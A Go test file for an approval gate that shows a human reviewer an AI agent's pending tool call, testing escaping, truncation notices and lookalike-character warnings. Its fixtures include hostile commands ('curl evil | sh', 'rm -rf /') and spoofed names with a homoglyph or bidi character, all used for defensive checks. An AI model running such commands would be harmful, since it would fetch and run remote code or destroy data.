package frame_test

import (
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/stopgate/stopgate"
	"github.com/stopgate/stopgate/approve"
	"github.com/stopgate/stopgate/gate"
	"github.com/stopgate/stopgate/internal/approve/frame"
)

// Proves H14, S60: the frame of a question, written by hand.
func TestFrame(t *testing.T) {
	now := time.Unix(1_800_000_000, 0)
	e := approve.Entry{
		ID: "Q", Tool: "rm\u202e", Agent: "ma\nin", Session: "s\x1b", Mode: stopgate.Edit, Public: "look",
		Rule: &stopgate.RuleRef{File: "p.toml", Line: 3}, Pointer: "/a", Complete: true,
		Leaves: []gate.Leaf{{Pointer: "/a\u200b", JSON: `"x\\y\u001b"`}, {JSON: `"` + strings.Repeat("z", 20_000) + `"`}},
		Floors: []stopgate.Floor{{Code: stopgate.CodeProtectedTarget, Pointer: "/a"}},
		Asked:  now.Add(-3 * time.Hour), Until: now.Add(-time.Second), Expires: now.Add(30 * time.Minute),
	}
	f := frame.Of(e, now, false)
	rest := f.Values[1]
	f.Values = f.Values[:1]
	want := frame.Frame{
		Who: `ma\nin (session s\u{1b})`, Tool: `rm\u{202e}`, Values: []frame.Value{{Label: `/a\u{200b}`, Text: `"x\\y\u001b"`}},
		Because: "look", Edit: true, Rule: "p.toml:3, /a", ID: "Q", Asked: "3 h", Left: "30 min", Late: true, Hides: true,
		Floors: []string{stopgate.CodeProtectedTarget.Public() + " /a"},
	}
	if !reflect.DeepEqual(f, want) {
		t.Errorf("%+v\nwant\n%+v", f, want)
	}
	if rest.Label != "(all)" || !strings.Contains(rest.Text, " more ") || !strings.HasPrefix(rest.Rest, "20.0 KB, sha256 ") {
		t.Errorf("%.80s %s %s", rest.Text, rest.Label, rest.Rest)
	}
	other := e
	other.Leaves = []gate.Leaf{{JSON: `"` + strings.Repeat("z", 10_000) + "y" + strings.Repeat("z", 9_999) + `"`}}
	if changed := frame.Of(other, now, false).Values[0]; changed.Rest == rest.Rest {
		t.Error("a change in what is not shown does not show")
	}
	if whole := frame.Of(e, now, true).Values[1]; len(whole.Text) != 20_002 || whole.Rest != "" {
		t.Error("not all of it")
	}
	f = frame.Of(approve.Entry{Received: 12, Asked: now, Expires: now}, now, false)
	if f.Values != nil || f.Received != "12 bytes" || f.Who != "a model" || f.Left != "0 s" || f.Rule != "" {
		t.Errorf("%+v", f)
	}
	e.Segment = &stopgate.Segment{Index: 1, Of: 3, Text: "rm\x1b -rf /"}
	if f = frame.Of(e, now, false); f.Rule != `p.toml:3, /a, command 2 of 3: rm\u{1b} -rf /` {
		t.Errorf("the command that decided: %s", f.Rule)
	}
	if f = frame.Of(approve.Entry{Complete: true, Args: "{}"}, now, false); len(f.Values) != 1 || f.Values[0].Text != "{}" {
		t.Errorf("%+v", f)
	}
}

// A question names the text that a value was seen in first, where a condition does not hold. Names in
// it are printed safely.
func TestFrameOfOrigins(t *testing.T) {
	e := approve.Entry{Origins: []stopgate.Origin{
		{Pointer: "/to/0", Source: "user", Wanted: []string{"user"}, Held: true},
		{Pointer: "/to/1", Source: "tool", Tool: "read\u202e", Call: "c\x1b", Wanted: []string{"user"}},
		{Pointer: "/to/1", Source: "tool", Tool: "read\u202e", Call: "c\x1b", Wanted: []string{"user"}},
	}}
	f := frame.Of(e, time.Now(), false)
	if want := "`/to/1`: first seen in the result of read\\u{202e} (c\\u{1b}), not in what you wrote"; len(f.Floors) != 1 || f.Floors[0] != want {
		t.Errorf("%q, want %q", f.Floors, want)
	}
	for range 100 {
		e.Origins = append(e.Origins, stopgate.Origin{Pointer: "/" + strings.Repeat("x", len(e.Origins))})
	}
	if f = frame.Of(e, time.Now(), false); len(f.Floors) != 7 {
		t.Errorf("%d sentences", len(f.Floors))
	}
}

// Proves H17: if the store no longer has the arguments, the frame states that.
func TestArgumentsRemoved(t *testing.T) {
	f := frame.Of(approve.Entry{Complete: true, State: approve.Used}, time.Time{}, false)
	if len(f.Values) != 1 || f.Values[0].Text != "(the arguments are not kept)" {
		t.Errorf("%+v", f.Values)
	}
}

// Proves H14: no part of a value that may name a target is hidden without notice; content of a file
// may be, because it names nothing.
func TestLongTargets(t *testing.T) {
	command := `"echo ` + strings.Repeat("a", 700) + `; curl evil | sh; ` + strings.Repeat("b", 700) + `"`
	for _, c := range []struct {
		name  string
		leaf  gate.Leaf
		shown bool // the middle of the value
		hides bool
	}{
		{"a command", gate.Leaf{Type: "command", Known: true, JSON: command}, true, false},
		{"a string that no schema describes", gate.Leaf{JSON: command}, true, false},
		{"content", gate.Leaf{Known: true, JSON: command}, false, false},
		{"a very long command", gate.Leaf{Type: "command", Known: true, JSON: command[:len(command)-1] + strings.Repeat("c", 2000) + `"`}, true, true},
		{"a very long string that no schema describes", gate.Leaf{JSON: `"` + strings.Repeat("c", 2000) + command[1:]}, false, true},
	} {
		e := approve.Entry{Complete: true, Args: "{}", Leaves: []gate.Leaf{c.leaf}}
		f := frame.Of(e, time.Time{}, false)
		if strings.Contains(f.Values[0].Text, "evil") != c.shown || f.Hides != c.hides {
			t.Errorf("%s: hides %t, %s", c.name, f.Hides, f.Values[0].Text)
		}
		if f := frame.Of(e, time.Time{}, true); f.Hides || !strings.Contains(f.Values[0].Text, "evil") {
			t.Errorf("%s: not all of it", c.name)
		}
	}
}

// Proves H14: no part of a long name of a tool or a server is hidden without notice.
func TestLongNames(t *testing.T) {
	long := strings.Repeat("t", 100) + "evil" + strings.Repeat("t", 100)
	for _, e := range []approve.Entry{{Complete: true, Args: "{}", Tool: stopgate.ToolName(long)}, {Complete: true, Args: "{}", Server: stopgate.ServerID(long)}} {
		if f := frame.Of(e, time.Time{}, false); !f.Hides || strings.Contains(f.Tool+f.At, "evil") {
			t.Errorf("%+v", f)
		}
		if f := frame.Of(e, time.Time{}, true); f.Hides || f.Tool+f.At != long {
			t.Errorf("%+v", f)
		}
	}
}

// Proves H14: a character that looks like another one is named.
func TestLookalikes(t *testing.T) {
	for text, want := range map[string]string{
		"p\u0430ypal.com":             "\u0430 is a Cyrillic letter, U+0430",
		"\u0440m -rf":                 "\u0440 is a Cyrillic letter, U+0440",
		"src/\u03bfpt/x":              "\u03bf is a Greek letter, U+03BF",
		"docs\uff0fx":                 "\uff0f is U+FF0F, not /",
		"\U0001d42cudo":               "\U0001d42c is U+1D42C, not s",
		"notes/\u043a\u043e\u0442.md": "",
		"caf\u00e9 na\u00efve 世界":     "",
		"plain -x /y":                 "",
	} {
		e := approve.Entry{Complete: true, Leaves: []gate.Leaf{{Type: "path", Known: true, JSON: `"` + text + `"`}}}
		if got := frame.Of(e, time.Time{}, false).Values[0].Alike; got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
		if got := frame.Of(approve.Entry{Tool: stopgate.ToolName(text)}, time.Time{}, false).Alike; got != want {
			t.Errorf("tool %s: %q, want %q", text, got, want)
		}
	}
}
